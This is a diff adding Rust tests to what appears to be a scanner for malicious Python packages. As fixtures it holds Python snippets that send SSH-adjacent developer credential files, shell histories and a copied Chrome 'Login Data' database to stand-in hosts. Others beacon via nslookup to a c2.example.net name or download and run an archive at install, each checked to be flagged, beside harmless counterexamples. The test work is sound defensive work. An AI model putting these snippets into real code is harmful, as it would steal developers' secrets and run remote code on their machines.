@@ -2877,3 +2877,98 @@ fn a_helper_hands_back_only_what_it_returns() {
         assert!(f.severity >= Severity::High, "{f:#?}");
     }
 }
+
+/// The sign-in files of developer tools that credential stealers collect
+/// beside SSH keys and cloud profiles (Kubernetes, npm, netrc, the Google
+/// Cloud, Azure and GitHub command lines) and the shells' histories: sent
+/// from `setup.py` to an address in the code, critical. Read by a client
+/// that talks to the server its file names, on request: no exfiltration to
+/// an address of the author's. Written for the test.
+#[test]
+fn developer_sign_in_files_sent_at_install_are_exfiltration() {
+    let worst = |path: &str, src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
+        report.findings.into_iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
+    };
+    for store in [
+        "'.kube/config'",
+        "'.npmrc'",
+        "'.netrc'",
+        "'.config/gcloud/credentials.db'",
+        "'.azure/accessTokens.json'",
+        "'.config/gh/hosts.yml'",
+        "'.zsh_history'",
+        "'.kube', 'config'",
+    ] {
+        let src = format!(
+            "import os, urllib.request\nfrom setuptools import setup\n\
+             data = open(os.path.join(os.path.expanduser('~'), {store})).read().encode()\n\
+             urllib.request.urlopen('https://collector.example.invalid/c', data)\nsetup(name='x')\n"
+        );
+        assert_eq!(worst("setup.py", &src), Some(Severity::Critical), "{src}");
+    }
+    let client = "import os, yaml, requests\ndef pods():\n    \
+                  cfg = yaml.safe_load(open(os.path.expanduser('~/.kube/config')))\n    \
+                  server = cfg['clusters'][0]['cluster']['server']\n    \
+                  return requests.get(server + '/api/v1/pods', verify=False).json()\n";
+    assert!(worst("pkg/k8s.py", client).is_none_or(|s| s < Severity::Critical), "{client}");
+}
+
+/// A DNS lookup of a name built onto a domain in the code sends that name
+/// to the domain's server: given as an argument list (`["nslookup", user +
+/// ".x.example"]`) as much as a shell line substituting it. Looking up a
+/// host the caller names is not. Written for the test.
+#[test]
+fn a_dns_lookup_of_a_built_name_is_a_beacon_in_an_argument_list_too() {
+    let beacon = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
+        report.findings.into_iter().find(|f| f.rule == "import-beacon").map(|f| f.severity)
+    };
+    for call in [
+        "subprocess.run(['nslookup', getpass.getuser() + '.' + socket.gethostname() + '.c2.example.net'])",
+        "subprocess.run(['nslookup', f'{getpass.getuser()}.c2.example.net'])",
+        "subprocess.run('nslookup $(whoami).c2.example.net', shell=True)",
+    ] {
+        let src = format!("import getpass, socket, subprocess\n{call}\n");
+        assert_eq!(beacon(&src), Some(Severity::High), "{src}");
+    }
+    let lookup =
+        "import subprocess\ndef resolve(host):\n    return subprocess.run(['nslookup', host], capture_output=True)\n";
+    assert_eq!(beacon(lookup), None);
+}
+
+/// An archive fetched into memory and unpacked to disk while the package
+/// installs, then a file of it started: a download run, critical. The same
+/// unpacking in a function its user calls (a driver installer) is not made
+/// a download by the unpacking. Written for the test.
+#[test]
+fn an_archive_fetched_and_unpacked_at_install_then_run_is_a_download_run() {
+    let run = "import io, os, sys, zipfile, tempfile, subprocess, urllib.request\n\
+               def stage():\n    d = tempfile.mkdtemp()\n    \
+               z = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen('https://example.invalid/t.zip').read()))\n    \
+               z.extractall(d)\n    subprocess.Popen([sys.executable, os.path.join(d, 'main.py')])\n";
+    let level = |path: &str, src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
+        report.findings.into_iter().filter(|f| f.rule == "download-then-run").map(|f| f.severity).max()
+    };
+    let at_install = format!("{run}stage()\nsetup(name='x')\n");
+    assert_eq!(level("setup.py", &at_install), Some(Severity::Critical), "{at_install}");
+    assert!(level("pkg/driver.py", run).is_none_or(|s| s < Severity::Critical), "{run}");
+}
+
+/// A browser's database copied out to a path a variable names, then that
+/// copy read and sent while the module loads: the copy is the store (what
+/// stealers do, the original being locked while the browser runs). Written
+/// for the test.
+#[test]
+fn a_copy_of_a_credential_store_is_the_store() {
+    let src = "import os, shutil, requests\n\
+               src = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n\
+               dst = os.path.join(os.getenv('TEMP'), 'l.db')\nshutil.copy2(src, dst)\n\
+               requests.post('https://collector.example.invalid/u', files={'f': open(dst, 'rb')})\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
+    let f =
+        report.findings.iter().find(|f| f.rule == "exfiltration").unwrap_or_else(|| panic!("{:#?}", report.findings));
+    assert_eq!(f.severity, Severity::Critical, "{f:#?}");
+    assert!(f.line == 5, "{f:#?}");
+}
